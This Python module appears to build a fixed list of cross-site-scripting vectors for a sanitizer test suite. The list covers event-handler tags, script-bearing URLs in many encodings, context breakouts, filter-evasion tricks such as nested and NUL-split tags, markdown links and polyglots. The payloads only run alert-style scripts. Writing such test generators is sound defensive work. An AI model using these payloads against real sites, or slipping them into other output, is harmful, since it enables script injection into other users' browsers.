"""Cross-site-scripting vectors made here, so the suite's hostile text is its own.

`xss_vectors()` builds them by combining what a browser lets run: tags and the event
handlers that fire without a click (onerror, onload, onfocus with autofocus, ontoggle,
onbegin, onanimationstart...), URL attributes with script-bearing schemes (javascript:,
data:, vbscript:) written in every way a URL parser forgives (case, leading whitespace,
tabs, newlines and form feeds inside, entities decimal and hex with and without their
semicolons, percent-encoding), and the ways a filter is walked past (attribute-breaking
quotes, closing the element the text lands in, comments and CDATA, unclosed and nested
tags, NUL, U+FFFE, form feed as a separator, markdown-ish links, polyglots).

Deterministic: the same list, in the same order, on every run and machine. The families
are interleaved, so any prefix (`xss_vectors(limit=n)`) holds some of each.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from itertools import zip_longest

# What a vector tries to run. Each is plain JavaScript; the encoders below disguise it.
SCRIPTS = (
    "alert(1)",
    "alert`1`",
    "confirm(1)",
    "prompt(1)",
    "alert(document.domain)",
    "top['al'+'ert'](1)",
    "window.onerror=alert;throw 1",
    "eval(atob('YWxlcnQoMSk='))",
    "[1].find(alert)",
    "(alert)(1)",
)

# Between a tag's name and its first attribute, and between attributes: what the HTML
# tokenizer reads as whitespace or as a separator (`/`).
SEPARATORS = (" ", "/", "\t", "\n", "\x0c", "\r", " /", "\n\t", "//")

# Elements and the handler that fires on them without a reader doing anything.
# `{sep}` separates, `{on}` is the handler attribute, `{js}` the (quoted) script.
HANDLER_TEMPLATES = (
    ("img", "<img{sep}src=x{sep}{on}={js}>", "onerror"),
    ("svg", "<svg{sep}{on}={js}>", "onload"),
    ("body", "<body{sep}{on}={js}>", "onload"),
    ("iframe", "<iframe{sep}src=about:blank{sep}{on}={js}></iframe>", "onload"),
    ("input", "<input{sep}autofocus{sep}{on}={js}>", "onfocus"),
    ("select", "<select{sep}autofocus{sep}{on}={js}></select>", "onfocus"),
    ("textarea", "<textarea{sep}autofocus{sep}{on}={js}></textarea>", "onfocus"),
    ("details", "<details{sep}open{sep}{on}={js}>", "ontoggle"),
    ("svg-animate", "<svg><animate{sep}{on}={js}{sep}attributeName=x{sep}dur=1s>", "onbegin"),
    ("svg-set", "<svg><set{sep}attributeName=x{sep}{on}={js}{sep}dur=1s>", "onbegin"),
    (
        "style-anim",
        "<style>@keyframes x{{}}</style><b{sep}style=animation-name:x{sep}{on}={js}>",
        "onanimationstart",
    ),
    ("video", "<video{sep}src=x{sep}{on}={js}></video>", "onerror"),
    ("video-source", "<video><source{sep}{on}={js}></video>", "onerror"),
    ("audio", "<audio{sep}src=x{sep}{on}={js}>", "onerror"),
    ("object", "<object{sep}data=x{sep}{on}={js}></object>", "onerror"),
    ("embed", "<embed{sep}src=x{sep}{on}={js}>", "onerror"),
    ("marquee", "<marquee{sep}{on}={js}>x</marquee>", "onstart"),
    ("form", "<form{sep}{on}={js}><input type=submit></form>", "onsubmit"),
    ("a-focus", "<a{sep}id=x{sep}tabindex=1{sep}{on}={js}>x</a>", "onfocusin"),
    ("math", "<math><mi{sep}xlink:href=x{sep}{on}={js}>x</mi></math>", "onclick"),
    ("template", "<template><img{sep}src=x{sep}{on}={js}></template>", "onerror"),
    ("link", "<link{sep}rel=stylesheet{sep}href=x{sep}{on}={js}>", "onerror"),
    ("image", "<image{sep}src=x{sep}{on}={js}>", "onerror"),
    ("picture", "<picture><img{sep}srcset=x{sep}{on}={js}></picture>", "onerror"),
)

# Elements that take a URL, and the attribute a script-bearing URL goes in.
URL_TEMPLATES = (
    ("a", '<a href="{url}">x</a>'),
    ("a-unquoted", "<a href={url}>x</a>"),
    ("a-single", "<a href='{url}'>x</a>"),
    ("iframe", '<iframe src="{url}"></iframe>'),
    ("object", '<object data="{url}"></object>'),
    ("embed", '<embed src="{url}">'),
    ("form", '<form action="{url}"><input type=submit></form>'),
    ("button", '<form><button formaction="{url}">x</button></form>'),
    ("math", '<math><maction actiontype=statusline xlink:href="{url}">x</maction></math>'),
    ("svg-a", '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>'),
    ("base", '<base href="{url}"><a href=x>x</a>'),
    ("meta", '<meta http-equiv="refresh" content="0;url={url}">'),
)


def _alternate_case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def _dec(text: str, *, semicolon: bool = True, pad: int = 0) -> str:
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _hex(text: str, *, semicolon: bool = True, upper: bool = False, pad: int = 0) -> str:
    end = ";" if semicolon else ""
    x = "X" if upper else "x"
    return "".join(f"&#{x}{ord(c):0{pad}x}{end}" for c in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(c):02X}" for c in text)


def _js_unicode(script: str) -> str:
    """Letters of identifiers as JavaScript unicode escapes: `\\u0061lert(1)`."""
    return "".join(f"\\u{ord(c):04x}" if c.isalpha() else c for c in script)


# Ways of writing a handler's value. Attribute values are entity-decoded by the browser
# before the script runs, so entities and their forms are as live as plain text.
VALUE_ENCODERS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("plain", lambda js: js),
    ("double", lambda js: f'"{js}"'),
    ("single", lambda js: f"'{js}'"),
    ("backtick", lambda js: f"`{js}`"),
    ("dec", lambda js: '"' + _dec(js) + '"'),
    ("dec-nosemi", lambda js: '"' + _dec(js, semicolon=False, pad=7) + '"'),
    ("hex", lambda js: '"' + _hex(js) + '"'),
    ("hex-nosemi-upper", lambda js: '"' + _hex(js, semicolon=False, upper=True) + '"'),
    ("js-unicode", lambda js: '"' + _js_unicode(js) + '"'),
    ("named-entities", lambda js: '"' + js.replace("(", "&lpar;").replace(")", "&rpar;") + '"'),
    ("with-nul", lambda js: js.replace("(", "\x00(", 1)),
    ("with-fffe", lambda js: '"' + js + "\ufffe" + '"'),
)


def _scheme_variants(scheme: str) -> Iterator[tuple[str, str]]:
    """`scheme` (with its colon) as a URL parser would still read it."""
    bare = scheme.rstrip(":")
    yield "plain", scheme
    yield "upper", scheme.upper()
    yield "mixed", _alternate_case(bare) + ":"
    yield "leading-space", "  " + scheme
    yield "leading-control", "\x01\x0f " + scheme
    yield "leading-nul", "\x00" + scheme
    half = len(bare) // 2
    for name, inside in (("tab", "\t"), ("newline", "\n"), ("cr", "\r"), ("ff", "\x0c")):
        yield f"{name}-inside", bare[:half] + inside + bare[half:] + ":"
    yield "tab-entity", bare[:half] + "&#x09;" + bare[half:] + ":"
    yield "newline-entity", bare[:half] + "&NewLine;" + bare[half:] + ":"
    yield "tab-named", bare[:half] + "&Tab;" + bare[half:] + ":"
    yield "colon-entity", bare + "&colon;"
    yield "colon-dec", bare + "&#58;"
    yield "colon-hex-nosemi", bare + "&#x3a"
    yield "dec", _dec(scheme)
    yield "dec-nosemi-padded", _dec(scheme, semicolon=False, pad=7)
    yield "hex", _hex(scheme)
    yield "hex-nosemi", _hex(scheme, semicolon=False)
    yield "hex-upper-padded", _hex(scheme, upper=True, pad=4)
    yield "first-letter-dec", _dec(bare[0]) + bare[1:] + ":"
    yield "percent", _percent(bare) + "%3A"
    yield "percent-colon", bare + "%3a"


def _script_urls() -> Iterator[tuple[str, str]]:
    """URLs that run a script, every scheme written every forgiving way."""
    scripts = SCRIPTS
    for i, (name, scheme) in enumerate(_scheme_variants("javascript:")):
        yield f"javascript-{name}", scheme + scripts[i % len(scripts)]
    for i, (name, scheme) in enumerate(_scheme_variants("vbscript:")):
        yield f"vbscript-{name}", scheme + ("msgbox(1)" if i % 2 else "alert(1)")
    bodies = (
        "text/html,<script>alert(1)</script>",
        "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "image/svg+xml,<svg onload=alert(1)>",
        "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "application/javascript,alert(1)",
        ",<script>alert(1)</script>",
    )
    for i, (name, scheme) in enumerate(_scheme_variants("data:")):
        yield f"data-{name}", scheme + bodies[i % len(bodies)]
    # A script after a harmless-looking start, and comment tricks inside the script.
    yield "javascript-comment", "javascript://%0aalert(1)"
    yield "javascript-comment-newline", "javascript://example.org/\nalert(1)"
    yield "javascript-block-comment", "javascript:/*--></title></style></textarea>*/alert(1)"
    yield "javascript-void", "javascript:void(0);alert(1)"
    yield "javascript-protocol-relative", "//javascript:alert(1)"


def _handler_vectors() -> Iterator[str]:
    """Every handler template with scripts, separators, quoting and case varied."""
    for t, (_, template, on) in enumerate(HANDLER_TEMPLATES):
        for e, (_, encode) in enumerate(VALUE_ENCODERS):
            script = SCRIPTS[(t + e) % len(SCRIPTS)]
            sep = SEPARATORS[(t * 3 + e) % len(SEPARATORS)]
            vector = template.format(sep=sep, on=on, js=encode(script))
            # Case varied on every third: tags and attributes are case-insensitive.
            if e % 3 == 1:
                vector = _upper_markup(vector)
            elif e % 3 == 2:
                vector = _mixed_markup(vector)
            yield vector


def _upper_markup(vector: str) -> str:
    """Tag and attribute names upper-cased, values left alone (quoted ones at least)."""
    out: list[str] = []
    quote = ""
    for c in vector:
        if quote:
            if c == quote:
                quote = ""
        elif c in "\"'`":
            quote = c
        elif c.isalpha():
            c = c.upper()
        out.append(c)
    return "".join(out)


def _mixed_markup(vector: str) -> str:
    out: list[str] = []
    quote = ""
    n = 0
    for c in vector:
        if quote:
            if c == quote:
                quote = ""
        elif c in "\"'`":
            quote = c
        elif c.isalpha():
            c = c.upper() if n % 2 else c.lower()
            n += 1
        out.append(c)
    return "".join(out)


def _url_vectors() -> Iterator[str]:
    urls = list(_script_urls())
    for u, (_, url) in enumerate(urls):
        # Each URL in three of the URL-bearing elements, a different three each time.
        for k in range(3):
            _, template = URL_TEMPLATES[(u + k * 5) % len(URL_TEMPLATES)]
            vector = template.format(url=url)
            yield _upper_markup(vector) if (u + k) % 4 == 3 else vector


# What text is put in to close the context a reader's words are shown in.
BREAKOUTS = (
    '">',
    "'>",
    "`>",
    '" ',
    "' ",
    '"/>',
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "-->",
    "]]>",
    "*/",
    "</li></ol>",
    "</div></div>",
    '"></a>',
)

# What follows a breakout: something short that runs.
SHORT_RUNNERS = (
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    " onfocus=alert(1) autofocus x=",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<svg\x0conload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
)


def _breakout_vectors() -> Iterator[str]:
    for b, breakout in enumerate(BREAKOUTS):
        for r in range(3):
            yield breakout + SHORT_RUNNERS[(b + r * 4) % len(SHORT_RUNNERS)]


def _filter_evasion_vectors() -> Iterator[str]:
    """Broken, nested and disguised markup that a naive filter reads as harmless."""
    for s, script in enumerate(SCRIPTS):
        # Unclosed and broken tags: the browser closes them.
        yield f"<img src=x onerror={script}"
        yield f"<svg onload={script}//"
        yield f"<img src=x onerror={script} <b>"
        yield f'<img """><script>{script}</script>">'
        # Nested so that stripping the inner tag forms the outer one.
        yield f"<scr<script>ipt>{script}</scr</script>ipt>"
        yield f"<<script>script>{script}<</script>/script>"
        yield f"<img src=x on<b>error={script}>"
        # Comments and CDATA.
        yield f'<!--<img src="--><img src=x onerror={script}//">'
        yield f"<!-- --!><svg onload={script}> -->"
        yield f"<![CDATA[><svg onload={script}>]]>"
        yield f"<svg><![CDATA[><image xlink:href=x onerror={script}>]]></svg>"
        yield f"<svg><style><img src=x onerror={script}></style></svg>"
        yield f'<noscript><p title="</noscript><img src=x onerror={script}>">'
        yield f"<math><mtext><table><mglyph><style><img src=x onerror={script}>"
        # Separators a filter may not take for whitespace.
        sep = SEPARATORS[s % len(SEPARATORS)]
        yield f"<svg{sep}onload{sep}={sep}{script}>"
        yield f"<img\x00src=x\x00onerror={script}>"
        yield f"<img src=x\ufffeonerror={script}>"
        yield f"<\x00script>{script}</script>"
        yield f"<script\x0c>{script}</script\x0c>"
        yield f"<script\n>{script}</script\n>"
        # Entity-encoded markup: must stay text, never be decoded into tags.
        yield f"&lt;script&gt;{script}&lt;/script&gt;"
        yield _dec(f"<img src=x onerror={script}>", semicolon=s % 2 == 0)
        yield _hex(f"<svg onload={script}>", semicolon=s % 2 == 1)
        yield f"\\u003cscript\\u003e{script}\\u003c/script\\u003e"
        yield f"\\x3cscript\\x3e{script}\\x3c/script\\x3e"
        yield _percent(f"<script>{script}</script>")
        yield f"%253Cscript%253E{script}%253C%252Fscript%253E"
        # Templates and expression syntaxes of other engines.
        yield f"{{{{constructor.constructor('{script}')()}}}}"
        yield f"${{{script}}}"
        yield f"<%= {script} %>"


def _markdownish_vectors() -> Iterator[str]:
    """Link syntaxes of markdown, BBCode and wikis, with script URLs in them."""
    for u, (_, url) in enumerate(list(_script_urls())[::3]):
        forms = (
            f"[x]({url})",
            f"![x]({url})",
            f"[x](<{url}>)",
            f"<{url}>",
            f"[x]: {url}",
            f"[url={url}]x[/url]",
            f"[img]{url}[/img]",
            f"[[{url}|x]]",
        )
        yield forms[u % len(forms)]
        yield forms[(u + 3) % len(forms)]


def _link_and_smiley_vectors() -> Iterator[str]:
    """Aimed at the comment renderer: its links and smilies are the only markup it writes,
    so the text around and inside them is where an attribute could be broken."""
    for s, script in enumerate(SCRIPTS):
        yield f'http://example.org/"onmouseover="{script}'
        yield f"https://example.org/'onfocus='{script}' autofocus '"
        yield f"https://example.org/`onerror=`{script}"
        yield f"http://example.org/<script>{script}</script>"
        yield f"https://example.org/?q=&quot;&gt;&lt;svg onload={script}&gt;"
        yield f"https://example.org/(<svg onload={script}>)"
        yield f"http://x.example/a\x0conload={script}"
        yield f"http://javascript:{script}@example.org/"
        smiley = (":D", ":-)", ";-)", "8)", ":P", ":o", ":lol:")[s % 7]
        yield f"{smiley}<img src=x onerror={script}>"
        yield f'<img src="{smiley}" onerror="{script}">'
        yield f"&lt;{smiley}&gt;<svg onload={script}>"
        yield f'"{smiley}" onmouseover="{script}"'


def _polyglots() -> Iterator[str]:
    """Long vectors that run in several contexts at once, assembled from the parts
    above (a quote, a comment and a tag closer each, then a runner)."""
    closers = (
        "</title></style></textarea></noscript></template></script>",
        "--!>-->]]>*/",
        "'\"`><",
    )
    heads = (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>",
        "'\";-->",
        "\"'--></style></script>",
    )
    for h, head in enumerate(heads):
        for s, script in enumerate(SCRIPTS[:6]):
            closer = closers[(h + s) % len(closers)]
            runner = SHORT_RUNNERS[(h * 6 + s) % len(SHORT_RUNNERS)]
            yield f"{head}{script}//{closer}{runner}"


def _interleave(families: Iterable[Iterable[str]]) -> Iterator[str]:
    for group in zip_longest(*families):
        for item in group:
            if item is not None:
                yield item


def xss_vectors(limit: int | None = None) -> list[str]:
    """The vectors, distinct, in a fixed order; the first `limit` when given."""
    families = (
        _handler_vectors(),
        _url_vectors(),
        _breakout_vectors(),
        _filter_evasion_vectors(),
        _markdownish_vectors(),
        _link_and_smiley_vectors(),
        _polyglots(),
    )
    seen: dict[str, None] = {}
    for vector in _interleave(families):
        seen.setdefault(vector, None)
        if limit is not None and len(seen) >= limit:
            break
    return list(seen)
